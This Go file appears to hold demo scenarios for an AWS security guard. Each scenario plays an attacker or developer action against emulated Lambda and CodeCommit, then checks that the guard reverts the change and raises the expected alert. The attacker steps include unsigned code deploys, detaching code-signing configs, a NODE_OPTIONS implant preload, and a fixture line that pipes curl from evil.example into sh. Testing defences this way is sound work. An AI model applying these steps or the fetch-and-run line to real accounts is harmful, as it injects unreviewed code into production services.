package demo

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/codecommit"
	"github.com/aws/aws-sdk-go-v2/service/codegurureviewer"
	cgtypes "github.com/aws/aws-sdk-go-v2/service/codegurureviewer/types"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/lambda/types"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
	"github.com/selfguard/selfguard/infra/emulator/repoemu"
	"github.com/selfguard/selfguard/infra/testbed"
	"github.com/selfguard/selfguard/shared/settings"
)

// Actors of the stories.
const (
	alice   = emulator.ActorDeveloper
	mallory = emulator.ActorAttacker
	ci      = emulator.ActorCI
)

// The repository the repository stories use, and its approval template.
const (
	repo     = "billing-service"
	template = settings.DefaultApprovalTemplate
)

var unsignedZip = lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"})

// Scenarios are the demo's stories, in the order they are told.
func Scenarios() []Scenario {
	return append(codeScenarios(), exposureScenarios()...)
}

// Entry names a story the demo plays and the mode it plays in.
type Entry struct{ Name, Mode string }

// Catalogue lists every story Run plays, the organization's included (it
// runs on a local organization of its own, not as a Scenario).
func Catalogue() []Entry {
	var out []Entry
	for _, s := range Scenarios() {
		out = append(out, Entry{Name: s.Name, Mode: s.Mode})
	}
	return append(out, Entry{Name: OrganizationScenario, Mode: "enforce"})
}

func codeScenarios() []Scenario {
	return []Scenario{
		{
			Name: "mallory overwrites payments-api with unsigned code", Mode: "monitor",
			Play: overwrite,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := latestIs(ctx, b, testbed.Payments, codeSha256(unsignedZip)); err != nil {
					return fmt.Errorf("monitor mode must change nothing: %w", err)
				}
				return alerted(alerts, testbed.Payments, "lambda.unsigned-code", "planned")
			},
		},
		{
			Name: "mallory overwrites payments-api with unsigned code", Mode: "enforce",
			Play: overwrite,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := latestIsVersion(ctx, b, testbed.Payments, "1"); err != nil {
					return err
				}
				return alerted(alerts, testbed.Payments, "lambda.unsigned-code", "done")
			},
		},
		{
			Name: "alice creates an unsigned function without code signing", Mode: "enforce",
			Play: func(ctx context.Context, b *testbed.Bed) error {
				_, err := b.Lambda(alice).CreateFunction(ctx, &lambda.CreateFunctionInput{
					FunctionName: aws.String("quick-fix"), Runtime: types.RuntimeProvidedal2023, Handler: aws.String("bootstrap"),
					Role: aws.String("arn:aws:iam::" + testbed.Account + ":role/quick-fix"), Code: &types.FunctionCode{ZipFile: unsignedZip},
				})
				return err
			},
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := containedIs(ctx, b, "quick-fix", true); err != nil {
					return err
				}
				if err := cscIs(ctx, b, "quick-fix", testbed.EnforceCSCARN); err != nil {
					return err
				}
				return alerted(alerts, "quick-fix", "lambda.unsigned-code", "done")
			},
		},
		{
			Name: "mallory detaches the code signing config from orders-api", Mode: "enforce",
			Play: func(ctx context.Context, b *testbed.Bed) error {
				_, err := b.Lambda(mallory).DeleteFunctionCodeSigningConfig(ctx, &lambda.DeleteFunctionCodeSigningConfigInput{FunctionName: aws.String(testbed.Orders)})
				return err
			},
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := cscIs(ctx, b, testbed.Orders, testbed.EnforceCSCARN); err != nil {
					return err
				}
				return alerted(alerts, testbed.Orders, "lambda.no-code-signing-config", "done")
			},
		},
		{
			Name: "mallory releases unsigned code through payments-api's prod alias", Mode: "enforce",
			Play: func(ctx context.Context, b *testbed.Bed) error {
				l := b.Lambda(mallory)
				out, err := l.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(testbed.Payments), ZipFile: unsignedZip, Publish: true})
				if err != nil {
					return err
				}
				if err := waitUpdated(ctx, l, testbed.Payments); err != nil {
					return err
				}
				_, err = l.UpdateAlias(ctx, &lambda.UpdateAliasInput{FunctionName: aws.String(testbed.Payments), Name: aws.String("prod"), FunctionVersion: out.Version})
				return err
			},
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := aliasIs(ctx, b, testbed.Payments, "prod", "1"); err != nil {
					return err
				}
				if err := latestIsVersion(ctx, b, testbed.Payments, "1"); err != nil {
					return err
				}
				return alerted(alerts, testbed.Payments+":prod", "lambda.alias-untrusted-version", "done")
			},
		},
		{
			Name: "mallory publishes unsigned code in a few seconds without code signing on orders-api, then puts everything back", Mode: "enforce",
			Play: codeSigningGap,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				// Every event finds a signed $LATEST and the config attached
				// again; version 2 stays invocable by its qualified ARN.
				if err := cscIs(ctx, b, testbed.Orders, testbed.EnforceCSCARN); err != nil {
					return err
				}
				if err := alerted(alerts, testbed.Orders+":2", "lambda.untrusted-version", "none"); err != nil {
					return err
				}
				if err := alerted(alerts, testbed.Orders, "lambda.csc-detached", "none"); err != nil {
					return err
				}
				return alertSays(alerts, "lambda.csc-detached", "by mallory", "attached again since", "unsigned version 2 published meanwhile")
			},
		},
		{
			Name: "alice points orders-api's prod alias at $LATEST", Mode: "enforce",
			Play: func(ctx context.Context, b *testbed.Bed) error {
				_, err := b.Lambda(alice).UpdateAlias(ctx, &lambda.UpdateAliasInput{FunctionName: aws.String(testbed.Orders), Name: aws.String("prod"), FunctionVersion: aws.String("$LATEST")})
				return err
			},
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := aliasIs(ctx, b, testbed.Orders, "prod", "1"); err != nil {
					return err
				}
				return alerted(alerts, testbed.Orders+":prod", "lambda.alias-latest", "done")
			},
		},
		{
			Name: "ci releases signed code on orders-api", Mode: "enforce",
			Play: func(ctx context.Context, b *testbed.Bed) error {
				signed, _, err := b.Emulator.Lambda.Sign(testbed.ReleaseProfile, lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\necho release 2\n"}))
				if err != nil {
					return err
				}
				l := b.Lambda(ci)
				if _, err := l.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(testbed.Orders), ZipFile: signed}); err != nil {
					return err
				}
				if err := waitUpdated(ctx, l, testbed.Orders); err != nil {
					return err
				}
				v, err := l.PublishVersion(ctx, &lambda.PublishVersionInput{FunctionName: aws.String(testbed.Orders), Description: aws.String("release 2")})
				if err != nil {
					return err
				}
				_, err = l.UpdateAlias(ctx, &lambda.UpdateAliasInput{FunctionName: aws.String(testbed.Orders), Name: aws.String("prod"), FunctionVersion: v.Version})
				return err
			},
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := aliasIs(ctx, b, testbed.Orders, "prod", "2"); err != nil {
					return fmt.Errorf("a signed release must stand: %w", err)
				}
				if len(alerts) != 0 {
					return fmt.Errorf("a signed release raised %d alerts, want none: %s", len(alerts), alerts[0].Subject)
				}
				return nil
			},
		},
		{
			Name: "mallory adds an unsigned layer to payments-api", Mode: "enforce",
			Play: func(ctx context.Context, b *testbed.Bed) error {
				_, err := b.Lambda(mallory).UpdateFunctionConfiguration(ctx, &lambda.UpdateFunctionConfigurationInput{
					FunctionName: aws.String(testbed.Payments),
					Layers:       []string{"arn:aws:lambda:" + testbed.Region + ":" + testbed.Account + ":layer:" + testbed.UnsignedLayer + ":1"},
				})
				return err
			},
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				out, err := b.Lambda(emulator.ActorAdmin).GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(testbed.Payments)})
				if err != nil {
					return err
				}
				if n := len(out.Configuration.Layers); n != 0 {
					return fmt.Errorf("payments-api still has %d layers, want the release's none", n)
				}
				return alerted(alerts, testbed.Payments+"/"+testbed.UnsignedLayer+":1", "lambda.untrusted-layer", "done")
			},
		},
		{
			Name: "mallory makes signed orders-api load her code through NODE_OPTIONS and releases it", Mode: "enforce",
			Play: loaderRelease,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if err := aliasIs(ctx, b, testbed.Orders, "prod", "1"); err != nil {
					return err
				}
				out, err := b.Lambda(emulator.ActorAdmin).GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(testbed.Orders)})
				if err != nil {
					return err
				}
				if e := out.Configuration.Environment; e != nil && e.Variables["NODE_OPTIONS"] != "" {
					return fmt.Errorf("orders-api $LATEST still sets NODE_OPTIONS=%s", e.Variables["NODE_OPTIONS"])
				}
				if err := alerted(alerts, testbed.Orders, "lambda.loader-variable", "done"); err != nil {
					return err
				}
				if err := alertSays(alerts, "lambda.loader-variable", "To undo:", "NODE_OPTIONS"); err != nil {
					return err
				}
				return alerted(alerts, testbed.Orders+":prod", "lambda.alias-untrusted-version", "done")
			},
		},
		{
			Name: "alice creates a repository without review", Mode: "monitor",
			Play: createRepo,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if n, err := templatesOn(ctx, b, repo); err != nil || n != 0 {
					return fmt.Errorf("monitor mode must change nothing: %d templates (%v)", n, err)
				}
				if err := alerted(alerts, repo, "repo.no-approval-rule", "planned"); err != nil {
					return err
				}
				return alerted(alerts, repo, "repo.no-automated-review", "planned")
			},
		},
		{
			Name: "alice creates a repository without review", Mode: "enforce",
			Play: createRepo,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if n, err := templatesOn(ctx, b, repo); err != nil || n != 1 {
					return fmt.Errorf("want the approval template associated, got %d (%v)", n, err)
				}
				if err := alerted(alerts, repo, "repo.no-approval-rule", "done"); err != nil {
					return err
				}
				return alertSays(alerts, "repo.no-automated-review", "Amazon Inspector", "Amazon Q Developer")
			},
		},
		{
			Name: "mallory disassociates the approval template from a repository", Mode: "enforce",
			Setup: reviewedRepo(true),
			Play: func(ctx context.Context, b *testbed.Bed) error {
				_, err := b.CodeCommit(mallory).DisassociateApprovalRuleTemplateFromRepository(ctx, &codecommit.DisassociateApprovalRuleTemplateFromRepositoryInput{
					ApprovalRuleTemplateName: aws.String(template), RepositoryName: aws.String(repo),
				})
				return err
			},
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				if n, err := templatesOn(ctx, b, repo); err != nil || n != 1 {
					return fmt.Errorf("want the template re-associated, got %d (%v)", n, err)
				}
				return alerted(alerts, repo, "repo.no-approval-rule", "done")
			},
		},
		{
			Name: "mallory removes the CodeGuru review of a repository (AWS closed to new associations)", Mode: "enforce",
			Setup: reviewedRepo(true),
			Play:  disassociateReview,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				return alertSays(alerts, "repo.no-automated-review", "HIGH", "Amazon Inspector", "Amazon Q Developer")
			},
		},
		{
			Name: "mallory removes the CodeGuru review of a repository (associations still accepted)", Mode: "enforce",
			Setup: reviewedRepo(false),
			Play:  disassociateReview,
			Check: func(ctx context.Context, b *testbed.Bed, alerts []testbed.Alert) error {
				out, err := b.CodeGuru(emulator.ActorAdmin).ListRepositoryAssociations(ctx, &codegurureviewer.ListRepositoryAssociationsInput{
					Names: []string{repo}, States: []cgtypes.RepositoryAssociationState{cgtypes.RepositoryAssociationStateAssociated, cgtypes.RepositoryAssociationStateAssociating},
				})
				if err != nil {
					return err
				}
				if len(out.RepositoryAssociationSummaries) != 1 {
					return fmt.Errorf("want the review re-associated, found %d live associations", len(out.RepositoryAssociationSummaries))
				}
				return alerted(alerts, repo, "repo.no-automated-review", "done")
			},
		},
	}
}

// codeSha256 is Lambda's CodeSha256 of a package: base64 of its SHA-256.
func codeSha256(zip []byte) string {
	sum := sha256.Sum256(zip)
	return base64.StdEncoding.EncodeToString(sum[:])
}

func overwrite(ctx context.Context, b *testbed.Bed) error {
	_, err := b.Lambda(mallory).UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(testbed.Payments), ZipFile: unsignedZip})
	return err
}

// codeSigningGap is path 1 of docs/threat-model.md: before any event is
// delivered, the code signing config is detached, unsigned code published
// as a version, the config attached again and the signed release deployed.
func codeSigningGap(ctx context.Context, b *testbed.Bed) error {
	l := b.Lambda(mallory)
	fn := aws.String(testbed.Orders)
	if _, err := l.DeleteFunctionCodeSigningConfig(ctx, &lambda.DeleteFunctionCodeSigningConfigInput{FunctionName: fn}); err != nil {
		return err
	}
	if _, err := l.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: fn, ZipFile: unsignedZip, Publish: true}); err != nil {
		return err
	}
	if err := waitUpdated(ctx, l, testbed.Orders); err != nil {
		return err
	}
	if _, err := l.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{FunctionName: fn, CodeSigningConfigArn: aws.String(testbed.EnforceCSCARN)}); err != nil {
		return err
	}
	release, _, err := b.Emulator.Lambda.Sign(testbed.ReleaseProfile, lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\necho release 1\n"}))
	if err != nil {
		return err
	}
	if _, err := l.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: fn, ZipFile: release}); err != nil {
		return err
	}
	return waitUpdated(ctx, l, testbed.Orders)
}

// loaderRelease is signed code made to load other code by configuration
// alone: Lambda verifies the package, not what NODE_OPTIONS preloads.
func loaderRelease(ctx context.Context, b *testbed.Bed) error {
	l := b.Lambda(mallory)
	if _, err := l.UpdateFunctionConfiguration(ctx, &lambda.UpdateFunctionConfigurationInput{
		FunctionName: aws.String(testbed.Orders),
		Environment:  &types.Environment{Variables: map[string]string{"NODE_OPTIONS": "--require /tmp/implant.js"}},
	}); err != nil {
		return err
	}
	if err := waitUpdated(ctx, l, testbed.Orders); err != nil {
		return err
	}
	v, err := l.PublishVersion(ctx, &lambda.PublishVersionInput{FunctionName: aws.String(testbed.Orders)})
	if err != nil {
		return err
	}
	_, err = l.UpdateAlias(ctx, &lambda.UpdateAliasInput{FunctionName: aws.String(testbed.Orders), Name: aws.String("prod"), FunctionVersion: v.Version})
	return err
}

func createRepo(ctx context.Context, b *testbed.Bed) error {
	_, err := b.CodeCommit(alice).CreateRepository(ctx, &codecommit.CreateRepositoryInput{RepositoryName: aws.String(repo), RepositoryDescription: aws.String("invoices and payments")})
	return err
}

func disassociateReview(ctx context.Context, b *testbed.Bed) error {
	cg := b.CodeGuru(mallory)
	out, err := cg.ListRepositoryAssociations(ctx, &codegurureviewer.ListRepositoryAssociationsInput{Names: []string{repo}})
	if err != nil {
		return err
	}
	if len(out.RepositoryAssociationSummaries) != 1 {
		return fmt.Errorf("want one association of %s, found %d", repo, len(out.RepositoryAssociationSummaries))
	}
	_, err = cg.DisassociateRepository(ctx, &codegurureviewer.DisassociateRepositoryInput{AssociationArn: out.RepositoryAssociationSummaries[0].AssociationArn})
	return err
}

// reviewedRepo sets up a repository with the approval template and an
// Associated CodeGuru review; closed says whether CodeGuru refuses new
// associations, as AWS does since 2025-11-07.
func reviewedRepo(closed bool) func(context.Context, *testbed.Bed) error {
	return func(_ context.Context, b *testbed.Bed) error {
		content := `{"Version":"2018-11-08","DestinationReferences":["refs/heads/main"],` +
			`"Statements":[{"Type":"Approvers","NumberOfApprovalsNeeded":1}]}`
		return b.Emulator.Repos.LoadWorld(repoemu.World{
			Repositories:          []repoemu.Repository{{Name: repo, DefaultBranch: "main"}},
			ApprovalRuleTemplates: []repoemu.ApprovalRuleTemplate{{Name: template, Content: content}},
			TemplateAssociations:  []repoemu.TemplateAssociation{{Template: template, Repository: repo}},
			CodeGuruAssociations:  []repoemu.CodeGuruAssociation{{Repository: repo}},
			CodeGuruClosedToNew:   &closed,
			AssociationDelay:      "0s",
		})
	}
}

func waitUpdated(ctx context.Context, l *lambda.Client, fn string) error {
	w := lambda.NewFunctionUpdatedV2Waiter(l, func(o *lambda.FunctionUpdatedV2WaiterOptions) {
		o.MinDelay, o.MaxDelay = 100*time.Millisecond, time.Second
	})
	return w.Wait(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn)}, 30*time.Second)
}

func latestIs(ctx context.Context, b *testbed.Bed, fn, sha string) error {
	out, err := b.Lambda(emulator.ActorAdmin).GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn)})
	if err != nil {
		return err
	}
	if got := aws.ToString(out.Configuration.CodeSha256); got != sha {
		return fmt.Errorf("%s $LATEST has code %s, want %s", fn, got, sha)
	}
	return nil
}

func latestIsVersion(ctx context.Context, b *testbed.Bed, fn, version string) error {
	out, err := b.Lambda(emulator.ActorAdmin).GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn), Qualifier: aws.String(version)})
	if err != nil {
		return err
	}
	if err := latestIs(ctx, b, fn, aws.ToString(out.Configuration.CodeSha256)); err != nil {
		return fmt.Errorf("want the code of version %s restored: %w", version, err)
	}
	return nil
}

func aliasIs(ctx context.Context, b *testbed.Bed, fn, alias, version string) error {
	out, err := b.Lambda(emulator.ActorAdmin).GetAlias(ctx, &lambda.GetAliasInput{FunctionName: aws.String(fn), Name: aws.String(alias)})
	if err != nil {
		return err
	}
	if got := aws.ToString(out.FunctionVersion); got != version || (out.RoutingConfig != nil && len(out.RoutingConfig.AdditionalVersionWeights) > 0) {
		return fmt.Errorf("%s:%s routes to %s (weights %v), want %s alone", fn, alias, got, out.RoutingConfig, version)
	}
	return nil
}

func containedIs(ctx context.Context, b *testbed.Bed, fn string, want bool) error {
	out, err := b.Lambda(emulator.ActorAdmin).GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn)})
	if err != nil {
		return err
	}
	got := out.Concurrency != nil && out.Concurrency.ReservedConcurrentExecutions != nil && *out.Concurrency.ReservedConcurrentExecutions == 0
	if got != want {
		return fmt.Errorf("%s contained = %v, want %v", fn, got, want)
	}
	return nil
}

func cscIs(ctx context.Context, b *testbed.Bed, fn, arn string) error {
	out, err := b.Lambda(emulator.ActorAdmin).GetFunctionCodeSigningConfig(ctx, &lambda.GetFunctionCodeSigningConfigInput{FunctionName: aws.String(fn)})
	if err != nil {
		return err
	}
	if got := aws.ToString(out.CodeSigningConfigArn); got != arn {
		return fmt.Errorf("%s has code signing config %q, want %s", fn, got, arn)
	}
	return nil
}

func templatesOn(ctx context.Context, b *testbed.Bed, name string) (int, error) {
	out, err := b.CodeCommit(emulator.ActorAdmin).ListAssociatedApprovalRuleTemplatesForRepository(ctx,
		&codecommit.ListAssociatedApprovalRuleTemplatesForRepositoryInput{RepositoryName: aws.String(name)})
	if err != nil {
		return 0, err
	}
	return len(out.ApprovalRuleTemplateNames), nil
}

// alerted checks that exactly one alert names the resource and rule, with
// the outcome given.
func alerted(alerts []testbed.Alert, resource, rule, outcome string) error {
	var found []testbed.Alert
	for _, a := range alerts {
		if a.Attributes["resource"] == resource && a.Attributes["rule"] == rule {
			found = append(found, a)
		}
	}
	switch {
	case len(found) == 0:
		return fmt.Errorf("no alert for %s on %s (got %s)", rule, resource, subjects(alerts))
	case len(found) > 1:
		return fmt.Errorf("%d alerts for %s on %s, want one", len(found), rule, resource)
	case found[0].Attributes["outcome"] != outcome:
		return fmt.Errorf("alert for %s on %s has outcome %q, want %q", rule, resource, found[0].Attributes["outcome"], outcome)
	}
	return nil
}

func alertSays(alerts []testbed.Alert, rule string, texts ...string) error {
	for _, a := range alerts {
		if a.Attributes["rule"] != rule {
			continue
		}
		for _, t := range texts {
			if !strings.Contains(a.Message, t) && !strings.Contains(a.Subject, t) {
				return fmt.Errorf("the %s alert does not say %q:\n%s", rule, t, a.Message)
			}
		}
		return nil
	}
	return errors.New("no " + rule + " alert (got " + subjects(alerts) + ")")
}

func subjects(alerts []testbed.Alert) string {
	s := make([]string, len(alerts))
	for i, a := range alerts {
		s[i] = a.Subject
	}
	return "[" + strings.Join(s, "; ") + "]"
}
